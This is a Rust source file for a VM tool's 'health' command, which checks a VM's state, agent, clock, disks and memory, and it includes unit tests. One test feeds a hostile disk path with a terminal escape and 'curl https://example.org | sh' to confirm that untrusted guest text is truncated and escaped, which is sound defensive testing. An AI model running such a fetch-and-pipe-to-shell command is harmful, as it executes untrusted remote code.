use std::{
    process::ExitCode,
    time::{Duration, SystemTime, UNIX_EPOCH},
};

use banger_api::{ApiError, Check, ErrorKind, GuestText, Size, Vm, VmState};
use banger_client::{AgentResponse, Client};
use banger_proto::{DiskUsage, GENERATION, Inspection};

use super::ping::in_ms;
use crate::{
    commands::reference::reference,
    error::CommandError,
    hints::hint_for,
    ui::{Format, Ui},
};

/// Maximum offset of a guest's clock. From a few seconds on, builds and certificate checks fail.
const MAX_CLOCK_OFFSET: Duration = Duration::from_secs(5);

/// Maximum answer time of a healthy agent.
const MAX_ANSWER_TIME: Duration = Duration::from_secs(1);

/// Minimum free space of a disk or of memory, in percent. Below the first the check warns, below the second it fails.
const WARN_PERCENT: u64 = 10;
const FAIL_PERCENT: u64 = 1;

/// Maximum length of a name or version that the guest reports, in bytes.
const MAX_NAME: usize = 100;

/// Check a VM's state, agent, clock, free disk space and free memory
///
/// The exit status is 1 if a check fails.
#[derive(Debug, clap::Args)]
#[command(before_help = "Examples:
  banger vm health box
  banger vm health box -o json")]
pub(crate) struct Health {
    /// Id, name, or unique prefix of either
    #[arg(value_parser = reference())]
    vm: String,
    #[command(flatten)]
    format: Format,
}

impl Health {
    pub(crate) async fn run(self, ui: &Ui) -> Result<ExitCode, CommandError> {
        let client = Client::new()?;
        let vm = client.vm(&self.vm).await?;
        let mut checks = vec![check_state(&vm)];
        if vm.state == VmState::Running {
            let requested_at = now();
            match banger_client::ping(&client, vm.name.as_str()).await {
                Ok(pong) => {
                    checks.extend(check_agent(&vm, &pong));
                    let inspection = banger_client::inspect(&client, vm.name.as_str()).await;
                    checks.extend(check_guest(
                        &vm,
                        inspection.map(|inspection| inspection.response),
                        requested_at,
                        now(),
                    ));
                }
                Err(error) => checks.push(unreachable_agent(&vm, error)),
            }
        }
        Ok(ui.checks(&self.format, &checks)?)
    }
}

/// Returns the time since the Unix epoch.
fn now() -> Duration {
    SystemTime::now().duration_since(UNIX_EPOCH).unwrap_or_default()
}

fn check_state(vm: &Vm) -> Check {
    let start = format!("start it with: banger vm start {}", vm.name);
    let fails = |message: &str, hint: String| {
        Check::fail("state", ApiError::new(ErrorKind::NotRunning, message).hint(hint))
    };
    match vm.state {
        VmState::Running => Check::pass("state", "running"),
        VmState::Starting | VmState::Stopping => {
            fails(&vm.state.to_string(), "try again when that has ended".to_owned())
        }
        VmState::Paused => fails("paused", format!("resume it with: banger vm resume {}", vm.name)),
        VmState::Created | VmState::Stopped => fails(&vm.state.to_string(), start),
        VmState::Error => {
            let why = vm.last_error.as_deref().and_then(|error| error.lines().next()).unwrap_or("unknown");
            let hint = format!("see `banger vm logs {}`, or {start}", vm.name);
            fails(&format!("error: {why}"), hint)
        }
    }
}

fn unreachable_agent(vm: &Vm, error: ApiError) -> Check {
    let hint = format!("see `banger vm logs {0}`, or restart it with: banger vm restart {0}", vm.name);
    Check::fail("agent", with_hint(error, hint))
}

/// Adds `hint` to `error`, unless it has one.
fn with_hint(error: ApiError, hint: String) -> ApiError {
    if hint_for(&error).is_some() { error } else { error.hint(hint) }
}

fn check_agent(vm: &Vm, pong: &AgentResponse<()>) -> [Check; 2] {
    let message = format!("answered in {:.1} ms", in_ms(pong.round_trip));
    let answered = if pong.round_trip <= MAX_ANSWER_TIME {
        Check::pass("agent", message)
    } else {
        let hint = "the guest or the host is very busy; see `banger vm stats`";
        Check::warn("agent", ApiError::new(ErrorKind::Timeout, message).hint(hint))
    };
    let theirs = pong.greeting.generation;
    let version = GuestText::bounded(&pong.greeting.version, MAX_NAME).reported();
    let differs = |how: &str, hint: String| {
        let message = format!("{version}, generation {theirs}, {how} than this banger's {GENERATION}");
        Check::warn("agent version", ApiError::new(ErrorKind::VersionSkew, message).hint(hint))
    };
    let generation = match theirs {
        GENERATION => Check::pass("agent version", format!("{version}, generation {theirs}, up to date")),
        ..GENERATION => {
            differs("older", format!("install this banger's agent with: banger vm restart {}", vm.name))
        }
        _ => differs("newer", "use the banger that started the VM".to_owned()),
    };
    [answered, generation]
}

/// Returns checks of what the guest reports about itself, in an answer requested at `requested_at` and received at
/// `received_at`.
fn check_guest(
    vm: &Vm,
    inspection: Result<Inspection, ApiError>,
    requested_at: Duration,
    received_at: Duration,
) -> Vec<Check> {
    let inspection = match inspection {
        Ok(inspection) => inspection,
        Err(error) => return vec![Check::warn("guest", with_hint(error, "try again".to_owned()))],
    };
    let mut checks =
        vec![check_clock(vm, Duration::from_nanos(inspection.clock_ns), requested_at, received_at)];
    checks.extend(inspection.disks.iter().map(|disk| check_disk(vm, disk)));
    checks.push(check_memory(vm, &inspection));
    checks
}

fn check_clock(vm: &Vm, guest_time: Duration, requested_at: Duration, received_at: Duration) -> Check {
    let offset = requested_at.saturating_sub(guest_time).max(guest_time.saturating_sub(received_at));
    match offset.as_secs() {
        _ if offset <= MAX_CLOCK_OFFSET => Check::pass("clock", "same as this host's"),
        seconds => {
            let side = if guest_time > received_at { "ahead of" } else { "behind" };
            let error = ApiError::new(ErrorKind::Guest, format!("{seconds} s {side} this host's"));
            Check::warn("clock", error.hint(format!("correct it with: banger vm restart {}", vm.name)))
        }
    }
}

fn check_disk(vm: &Vm, disk: &DiskUsage) -> Check {
    let hint = match disk.path.as_str() {
        "/root" => {
            format!("delete files there, or stop the VM and run `banger vm set {} --disk-size SIZE`", vm.name)
        }
        // A guest may report any path, which must not become advice.
        _ => "delete files in the VM; /root is a separate disk".to_owned(),
    };
    let name = format!("disk {}", GuestText::bounded(&disk.path, MAX_NAME));
    check_available(name, ErrorKind::NoSpace, disk.available, disk.total, hint)
}

fn check_memory(vm: &Vm, inspection: &Inspection) -> Check {
    let hint = format!("end programs, or stop the VM and run `banger vm set {} --memory SIZE`", vm.name);
    check_available(
        "memory".to_owned(),
        ErrorKind::NoMemory,
        inspection.memory_available,
        inspection.memory_total,
        hint,
    )
}

/// Checks that enough of `total` is available; `kind` is the error's kind if not. A guest may report any values.
fn check_available(name: String, kind: ErrorKind, available: u64, total: u64, hint: String) -> Check {
    let message = format!("{} of {} left", Size::bytes(available), Size::bytes(total));
    let share = u128::from(available) * 100 / u128::from(total).max(1);
    let error = |message| ApiError::new(kind, message).hint(hint);
    match u64::try_from(share).unwrap_or(u64::MAX) {
        ..FAIL_PERCENT => Check::fail(name, error(message)),
        FAIL_PERCENT..WARN_PERCENT => Check::warn(name, error(message)),
        _ => Check::pass(name, message),
    }
}

#[cfg(test)]
mod tests {
    use banger_api::Verdict;

    use super::*;

    fn vm(state: &str) -> Vm {
        serde_json::from_value(serde_json::json!({
            "id": "00000000000000ab", "name": "box", "state": state, "image": "i", "kernel": "k", "vcpu": 1,
            "memory": 1, "system_overlay_size": 1, "disk_size": 1, "rm": false,
            "created_at": "2026-01-01T00:00:00Z", "console": "/c", "last_error": "its VMM died\nmore",
        }))
        .unwrap()
    }

    #[test]
    fn a_vm_that_is_not_running_fails_with_a_hint() {
        for (name, message, hint) in [
            ("stopped", "stopped", "start it with: banger vm start box"),
            ("created", "created", "start it with: banger vm start box"),
            ("paused", "paused", "resume it with: banger vm resume box"),
            (
                "error",
                "error: its VMM died",
                "see `banger vm logs box`, or start it with: banger vm start box",
            ),
        ] {
            let error = ApiError::new(ErrorKind::NotRunning, message).hint(hint);
            assert_eq!(check_state(&vm(name)), Check::fail("state", error));
        }
        assert_eq!(check_state(&vm("running")).verdict, Verdict::Pass);
    }

    #[test]
    fn guest_checks_apply_thresholds_to_clock_disks_and_memory() {
        let disk = |path: &str, available| DiskUsage { path: path.into(), total: 1000, available };
        let inspection = Inspection {
            clock_ns: 100_000_000_000,
            memory_total: u64::MAX,
            memory_available: u64::MAX,
            disks: vec![disk("/", 99), disk("/root", 9)],
            ..Inspection::default()
        };
        let verdicts = |requested_at, received_at| -> Vec<_> {
            let [requested_at, received_at] = [requested_at, received_at].map(Duration::from_secs);
            check_guest(&vm("running"), Ok(inspection.clone()), requested_at, received_at)
                .iter()
                .map(|check| check.verdict)
                .collect()
        };
        let rest = [Verdict::Warn, Verdict::Fail, Verdict::Pass];
        assert_eq!(
            verdicts(90, 110),
            [&[Verdict::Pass][..], &rest].concat(),
            "a slow answer is not a clock error"
        );
        assert_eq!(verdicts(105, 105)[0], Verdict::Pass);
        assert_eq!(verdicts(106, 106)[0], Verdict::Warn);
        assert_eq!(verdicts(10, 94)[0], Verdict::Warn);
        let hostile = DiskUsage {
            path: "/\x1b[2J; curl https://example.org | sh".repeat(1000),
            total: 1,
            available: 0,
        };
        let check = check_disk(&vm("running"), &hostile);
        assert!(check.name.starts_with("disk /^[[2J; curl") && check.name.len() < 200, "{}", check.name);
        assert_eq!(check.error.unwrap().hint.unwrap(), "delete files in the VM; /root is a separate disk");
        let empty = check_guest(&vm("running"), Ok(Inspection::default()), Duration::ZERO, Duration::ZERO);
        assert_eq!(empty.last().unwrap().verdict, Verdict::Fail);
        let old = ApiError::new(ErrorKind::VersionSkew, "older").hint("restart");
        assert_eq!(
            check_guest(&vm("running"), Err(old.clone()), Duration::ZERO, Duration::ZERO),
            [Check::warn("guest", old)]
        );
    }
}
